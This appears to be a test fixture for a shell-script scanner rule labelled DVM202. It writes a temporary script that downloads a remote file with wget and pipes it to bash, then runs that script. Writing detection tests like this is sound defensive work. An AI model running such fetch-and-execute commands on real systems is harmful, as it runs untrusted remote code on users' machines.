# expect: DVM202
cat > /tmp/do.sh <<'EOF'
#!/bin/bash
wget -qO- https://example.org/i.sh | bash
EOF
bash /tmp/do.sh
